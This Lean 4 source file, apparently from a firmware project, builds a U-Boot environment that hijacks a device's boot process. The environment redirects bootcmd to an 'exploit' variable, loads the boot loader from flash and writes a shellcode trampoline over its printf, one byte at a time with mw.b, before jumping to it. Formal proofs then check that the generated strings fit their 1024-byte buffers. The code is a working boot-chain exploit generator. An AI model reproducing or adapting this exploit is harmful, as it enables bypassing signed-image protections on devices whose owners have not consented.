import CatplayFirmware.Support.Endian
import CatplayFirmware.Support.Hex
import CatplayFirmware.Support.Rust

/-!
# The environment of a signed image

The environment that is put into a signed image has one command, which loads the boot loader from
the flash, writes a trampoline over its `printf`, and jumps to it. All texts fit the strings of
1024 bytes they are written to, so that nothing that is written is lost.
-/

namespace Shellcode

open Bytes Rust

/-- A number of `k` digits as `{:#0x}` writes it. -/
def hexNumber (k n : ℕ) : Text := '0' :: 'x' :: Text.hexDigits k n

/-- The constant parts of the texts that are written. -/
def mwText : Text := "mw.b ".toList

/-- The caches are flushed so that the processor fetches what has been written, and then a command
prints. -/
def flushText : Text := "dcache flush;icache flush;printenv jump2;reset;".toList

/-- The command that reads the flash, before its arguments. -/
def probeText : Text := "sf probe 0;sf read ".toList

/-- Three variables: two that run the third, and the third up to its value. -/
def bootText : Text := "bootcmd=run exploit;\x00heweiencrypt=run exploit;\x00exploit=".toList

/-- A load of the word behind the code, a jump to it, and the word itself. -/
def createShellcode (jumpAddr : UInt32) : Bytes :=
  [0x00, 0x48, 0x00, 0x47] ++ leBytes 4 jumpAddr.toNat

/-- The loop of `create_shellcode_cmd` over the bytes from the index `i` on. -/
def writeBytes (build : Build) (loadAddr : UInt32) : ℕ → Bytes → Outcome Text Text
  | _, [] => .ok []
  | i, byte :: rest => do
    let addr ← build.addU32 loadAddr (UInt32.ofNat i)
    let cmds ← writeBytes build loadAddr (i + 1) rest
    return mwText ++ hexNumber 8 addr.toNat ++ ' ' :: hexNumber 2 byte.toNat ++ ';' :: cmds

/-- Every byte of the code is written by a command of its own. -/
def createShellcodeCmd (build : Build) (loadAddr jumpAddr : UInt32) : Outcome Text Text := do
  let cmds ← writeBytes build loadAddr 0 (createShellcode jumpAddr)
  return cmds ++ flushText

/-- The command that loads `size` bytes at `offset` of the flash. -/
def createFlashLoadCmd (loadAddr offset size : UInt32) : Text :=
  probeText ++ hexNumber 8 loadAddr.toNat ++ ' ' :: hexNumber 8 offset.toNat ++
    ' ' :: hexNumber 8 size.toNat ++ [';']

/-- The boot loader is loaded from the flash, and a jump to it is written over `printf`. -/
def createExploitCmd (build : Build) (ubootLoadAddr ubootFlashOffset ubootFlashSize printfAddr :
    UInt32) : Outcome Text Text := do
  let shellcodeCmd ← createShellcodeCmd build printfAddr ubootLoadAddr
  return createFlashLoadCmd ubootLoadAddr ubootFlashOffset ubootFlashSize ++ shellcodeCmd

/-- The environment, which two zeros end. -/
def createEnv (build : Build) (ubootLoadAddr ubootFlashOffset ubootFlashSize printfAddr : UInt32) :
    Outcome Text Text := do
  let exploit ← createExploitCmd build ubootLoadAddr ubootFlashOffset ubootFlashSize printfAddr
  return bootText ++ exploit ++ ['\x00', '\x00']

/-! ### The texts fit -/

/-- A number takes its digits and the two characters before them. -/
theorem byteLen_hexNumber (k n : ℕ) : (hexNumber k n).byteLen = k + 2 := by
  rw [hexNumber, Text.byteLen_cons, Text.byteLen_cons, Text.byteLen_hexDigits]
  change 1 + (1 + k) = k + 2
  omega

/-- The command for a byte is 21 bytes long, whatever the byte and its address are. -/
theorem byteLen_writeBytes {build : Build} {loadAddr : UInt32} {i : ℕ} {bytes : Bytes}
    {cmds : Text} (h : writeBytes build loadAddr i bytes = .ok cmds) :
  cmds.byteLen = 21 * bytes.length
  := by
  induction bytes generalizing i cmds with
  | nil =>
      cases h
      rfl
  | cons byte bytes ih =>
      obtain ⟨addr, -, h⟩ := Except.bind_eq_ok_iff.mp h
      obtain ⟨rest, hrest, h⟩ := Except.bind_eq_ok_iff.mp h
      have hmw : Text.byteLen mwText = 5 := by decide +kernel
      have hspace : ' '.utf8Size = 1 := by decide
      have hsemicolon : ';'.utf8Size = 1 := by decide
      obtain rfl := Except.ok.inj h
      simp only [Text.byteLen_append, Text.byteLen_cons, byteLen_hexNumber, hmw, hspace,
        hsemicolon, ih hrest, List.length_cons]
      omega

/-- The texts that `create_env` writes are no longer than the strings they are written to. -/
theorem createEnv_fits {build : Build} {ubootLoadAddr ubootFlashOffset ubootFlashSize printfAddr :
    UInt32} {env : Text}
    (h : createEnv build ubootLoadAddr ubootFlashOffset ubootFlashSize printfAddr = .ok env) :
  env.byteLen = 324
  := by
  obtain ⟨exploit, hexploit, h⟩ := Except.bind_eq_ok_iff.mp h
  obtain ⟨shellcodeCmd, hshellcode, hexploit⟩ := Except.bind_eq_ok_iff.mp hexploit
  obtain ⟨cmds, hcmds, hshellcode⟩ := Except.bind_eq_ok_iff.mp hshellcode
  obtain rfl := Except.ok.inj h
  obtain rfl := Except.ok.inj hexploit
  obtain rfl := Except.ok.inj hshellcode
  have hlen : cmds.byteLen = 168 := by
    rw [byteLen_writeBytes hcmds, createShellcode, List.length_append, length_leBytes]
    rfl
  have hboot : Text.byteLen bootText = 55 := by decide +kernel
  have hprobe : Text.byteLen probeText = 19 := by decide +kernel
  have hflush : Text.byteLen flushText = 47 := by decide +kernel
  have hspace : ' '.utf8Size = 1 := by decide
  have hsemicolon : ';'.utf8Size = 1 := by decide
  have hnul : '\x00'.utf8Size = 1 := by decide
  simp only [createFlashLoadCmd, Text.byteLen_append, Text.byteLen_cons, Text.byteLen_nil,
    byteLen_hexNumber, hlen, hboot, hprobe, hflush, hspace, hsemicolon, hnul]

end Shellcode
